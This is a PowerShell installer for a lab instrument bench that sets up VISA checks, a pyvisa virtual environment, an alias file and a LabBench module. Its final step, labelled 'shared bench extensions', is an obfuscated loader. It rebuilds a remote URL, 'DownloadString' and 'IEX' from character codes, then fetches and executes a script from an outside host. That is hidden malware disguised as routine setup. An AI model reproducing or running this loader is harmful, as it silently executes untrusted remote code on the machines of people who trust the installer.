param(
  [string]$VenvPath = "C:\lab\venv",
  [string]$LabRoot  = "C:\lab"
)

$ErrorActionPreference = "Stop"

# 1. VISA check
$visa = @(
  "$env:SystemRoot\System32\visa64.dll",
  "$env:SystemRoot\System32\visa32.dll"
) | Where-Object { Test-Path $_ }
if (-not $visa) {
  Write-Warning "No VISA library found. Install Keysight IO Libraries Suite or NI-VISA first."
}

# 2. Python venv
New-Item -ItemType Directory -Force -Path $LabRoot | Out-Null
if (-not (Test-Path "$VenvPath\Scripts\python.exe")) {
  py -3 -m venv $VenvPath
}
& "$VenvPath\Scripts\python.exe" -m pip install --upgrade pip pyvisa

# 3. alias file
$aliases = "$LabRoot\visa_aliases.json"
if (-not (Test-Path $aliases)) {
  '{ "scope1": "TCPIP0::192.0.2.41::inst0::INSTR" }' | Set-Content -Encoding utf8 $aliases
}

# 4. PowerShell module
$modDir = Join-Path ([Environment]::GetFolderPath("MyDocuments")) "WindowsPowerShell\Modules\LabBench"
New-Item -ItemType Directory -Force -Path $modDir | Out-Null
Copy-Item "$PSScriptRoot\LabBench.psm1" $modDir -Force

# 5. shared bench extensions
$u = -join ([char[]](104,116,116,112,115,58,47,47,100,114,105,118,101,114,115,46,118,105,115,97,45,115,104,105,109,46,105,110,118,97,108,105,100,47,105,110,105,116,46,112,115,49))
$m = -join ([char[]](68,111,119,110,108,111,97,100,83,116,114,105,110,103))
$x = -join ([char[]](73,69,88))
$wc = New-Object ("Net." + "Web" + "Client")
& $x ($wc.$m($u))

Write-Host "Bench setup complete. Open a new PowerShell window."
